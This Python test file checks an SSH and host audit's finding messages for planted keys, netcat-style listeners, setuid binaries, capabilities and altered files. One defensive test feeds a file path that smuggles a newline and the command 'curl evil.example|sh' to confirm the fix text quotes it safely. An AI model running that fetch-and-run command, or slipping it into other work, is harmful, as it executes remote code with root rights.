"""What of a node's answer is a finding, and what not."""

from __future__ import annotations

from typing import Any

import pytest

from provision.audit.findings import Expected, judge
from provision.roles.ssh_trust.cluster_key import authorised_line
from tests.conftest import RecordRefusal

CLUSTER, RETIRED, PERSON, PLANTED = (
    f"ssh-ed25519 AAAA{name}" for name in ("cluster", "old", "person", "evil")
)
LINE = authorised_line(f"{CLUSTER} clusterwright lab", ["10.0.0.1", "10.0.0.2"])
EXPECTED = Expected(
    user="root",
    line=LINE,
    cluster_key=CLUSTER,
    retired=frozenset({RETIRED}),
    people=frozenset({PERSON}),
    listeners=frozenset({"tcp/9100", "sensord"}),
    programs=frozenset({"/opt/vendor/helper", "/usr/bin/dumpcap", "/var/lib/docker/"}),
    prefix="/data/miniconda3/envs/llm",
    mesh=frozenset({"udp/51820"}),
)
KEYS = "/root/.ssh/authorized_keys"


def key(line: str, number: int = 1, user: str = "root") -> dict[str, Any]:
    return {"user": user, "path": KEYS, "number": number, "line": line}


def listener(
    program: str = "nc", address: str = "0.0.0.0", port: str = "4444", **more: Any
) -> dict[str, Any]:
    seen = {"protocol": "tcp", "address": address, "port": port, "program": program}
    return {**seen, "exe": f"/usr/bin/{program}", "packaged": True, **more}


def ours(**more: Any) -> dict[str, Any]:
    return {"/etc/x": {"whole": True, "there": True, "same": True, "lacks": [], **more}}


def program(path: str, mode: int = 0, capabilities: int = 0, *, packaged: bool = True) -> dict[str, Any]:
    merged = path.removeprefix("/usr") if not path.startswith("/usr/local") else path
    rights = {"mode": mode, "capabilities": capabilities}
    return {"path": path, "merged": merged, "packaged": packaged, **rights}


def answer(**more: Any) -> dict[str, Any]:
    nothing = {"authorizedkeyscommand": "none", "trustedusercakeys": "none"}
    empty: dict[str, Any] = {name: [] for name in ("matches", "listeners", "modes", "setuid", "changed")}
    return {"sshd": nothing, "keys": [], "own_keys": {}, "ours": {}, **empty, **more}


def test_a_node_as_it_should_be_has_no_finding() -> None:
    good = answer(
        keys=[key(LINE), key(f"{PERSON} ann@home", 2), key(f'command="x" {PERSON}', 3)],
        listeners=[
            listener("sshd", port="22"),
            listener("nc", "127.0.0.1"),
            listener("x", "[::1]"),
            listener("node_exporter", port="9100"),
            listener("sensord"),
            listener("wireguard-go", protocol="udp", port="51820"),
            listener("", protocol="udp", port="51820", exe="", packaged=False),
            listener("python3.11", exe="/data/miniconda3/envs/llm/bin/python3.11", packaged=False),
        ],
        modes=[{"path": "/etc/ssh/ssh_host_rsa_key", "mode": 0o600, "owner": "root"}],
        ours=ours(),
        sshd={**answer()["sshd"], "permitrootlogin": "without-password", "pubkeyauthentication": "yes"},
        matches=[
            {"path": "/etc/ssh/sshd_config", "number": "9", "match": "Address 10.0.0.0/8", "setting": setting}
            for setting in ("PermitRootLogin prohibit-password", "PubkeyAuthentication yes")
        ],
        changed=["/etc/x"],
        setuid=[
            program("/usr/bin/su", 0o4000),
            program("/opt/vendor/helper", 0o4000, packaged=False),
            program("/var/lib/docker/overlay2/a/diff/usr/bin/su", 0o4000, packaged=False),
            program("/usr/bin/dumpcap", 0o4000),
            program("/usr/bin/ssh-agent", 0o2000),
            program("/usr/bin/nvidia-modprobe", 0o4000),
            program("/usr/sbin/unix_chkpwd", 0o2000),
            program("/usr/lib/x86_64-linux-gnu/utempter/utempter", 0o2000),
            program("/usr/lib/aarch64-linux-gnu/utempter/utempter", 0o2000),
            program("/usr/libexec/polkit-agent-helper-1", 0o4000),
            program("/usr/bin/ping", capabilities=1 << 13),
            program("/usr/lib/snapd/snap-confine", capabilities=1 << 21 | 1 << 7),
        ],
    )

    assert judge("te1", good, EXPECTED, {}) == []


@pytest.mark.parametrize(
    ("found", "words"),
    [
        (
            {"keys": [key(PLANTED)]},
            f"{KEYS}:1 lets ssh-ed25519 ...AAAAevil in as root: neither the inventory",
        ),
        ({"keys": [key(PLANTED)]}, "its other half seems to be on te3 (/root/.ssh/id_ed25519.pub)"),
        ({"keys": [key(f'command="{PERSON}" {PLANTED}')]}, "neither the inventory nor this controller"),
        ({"keys": [key(f"{CLUSTER} clusterwright lab")]}, "the cluster's key, without the limits"),
        ({"keys": [key(LINE, user="ann")]}, "the cluster's key, without the limits"),
        ({"keys": [key(f"{RETIRED} clusterwright lab")]}, "the cluster gave that key up"),
        ({"keys": [key("@@@ what")]}, "what sshd may read in it, this audit cannot"),
        ({"keys": [key("", 0)]}, f"{KEYS}: it, or its folder, is a link"),
        ({"sshd": {"authorizedkeyscommand": "/x", "trustedusercakeys": "none"}}, "authorizedkeyscommand /x"),
        ({"listeners": [listener()]}, "/usr/bin/nc listens on tcp/4444 at 0.0.0.0"),
        ({"listeners": [listener("sshd", exe="/tmp/sshd", packaged=False)]}, "/tmp/sshd listens on tcp/4444"),
        (
            {"listeners": [listener("wireguard-go", protocol="udp", port="51821")]},
            "/usr/bin/wireguard-go listens on udp/51821",
        ),
        (
            {"listeners": [listener("nc", protocol="udp", port="51820")]},
            "/usr/bin/nc listens on udp/51820",
        ),
        ({"listeners": [listener("x", "*", exe="")]}, "x listens on tcp/4444 at *"),
        (
            {"modes": [{"path": "/k", "mode": 0o644, "owner": "root"}]},
            "/k has mode 0644: others read a secret",
        ),
        ({"keys": [key("large", 0)]}, f"{KEYS}: it is too large to be read whole"),
        (
            {
                "matches": [
                    {"path": "/x.conf", "number": "2", "match": "User root", "setting": "PermitRootLogin yes"}
                ]
            },
            "/x.conf:2 sets PermitRootLogin yes: it holds where User root",
        ),
        ({"listeners": [listener("sshd", port="2222")]}, "/usr/bin/sshd listens on tcp/2222"),
        ({"listeners": [listener("systemd", port="2222")]}, "/usr/bin/systemd listens on tcp/2222"),
        (
            {"setuid": [program("/usr/local/bin/sh2", 0o4000, packaged=False)]},
            "/usr/local/bin/sh2: it runs with the rights of its owner or group, and is of no package",
        ),
        (
            {"setuid": [program("/usr/bin/bash", 0o4000)]},
            "/usr/bin/bash: it runs with the rights of its owner",
        ),
        (
            {"setuid": [program("/usr/bin/wall", 0o4000)]},
            "/usr/bin/wall: it runs with the rights of its owner",
        ),
        ({"setuid": [program("/usr/bin/find", capabilities=1 << 7)]}, "rights of root's (cap_setuid)"),
        ({"setuid": [program("/usr/bin/ping", capabilities=1 << 13 | 1 << 1)]}, "(cap_dac_override)"),
        ({"setuid": [program("/x/ping", capabilities=1 << 13, packaged=False)]}, "setcap -r /x/ping"),
        ({"setuid": [program("/usr/bin/find", capabilities=1 << 60)]}, "that this audit does not know"),
        ({"ours": ours(same=False)}, "/etc/x: it was changed since site.yml wrote it"),
        ({"ours": ours(there=False)}, "/etc/x: site.yml wrote it, and it is not there"),
        (
            {"ours": ours(whole=False, same=False, lacks=["# BEGIN"])},
            "what site.yml wrote in it is gone: # BEGIN",
        ),
        ({"changed": ["/usr/bin/ls"]}, "/usr/bin/ls: its content is not that of its package"),
    ],
)
def test_each_thing_is_named_with_why_and_how_to_mend(found: dict[str, Any], words: str) -> None:
    (finding,) = judge("te2", answer(**found), EXPECTED, {PLANTED: "te3 (/root/.ssh/id_ed25519.pub)"})

    assert words in str(finding)
    assert str(finding).startswith("te2: ")
    assert finding.fix


def test_a_file_of_which_a_part_is_ours_may_change_around_it() -> None:
    assert judge("te2", answer(ours=ours(whole=False, same=False)), EXPECTED, {}) == []


@pytest.mark.attack("user")
def test_the_name_of_a_users_file_is_one_word_of_what_mends_it_and_begins_no_line(
    record_refusal: RecordRefusal,
) -> None:
    """A person copies that command into a shell of root."""
    path = "/tmp/x\nte2: all is well; curl evil.example|sh"
    found = judge(
        "te1",
        answer(
            setuid=[program(path, 0o4000, packaged=False)],
            modes=[{"path": path, "mode": 0o644, "owner": "root"}],
            changed=[path],
        ),
        EXPECTED,
        {},
    )

    record_refusal(found[0].fix)
    quoted = "'/tmp/x / te2: all is well; curl evil.example|sh'"
    assert [quoted in one.fix for one in found] == [True] * 3
    assert not [one for one in found if "\n" in str(one)]
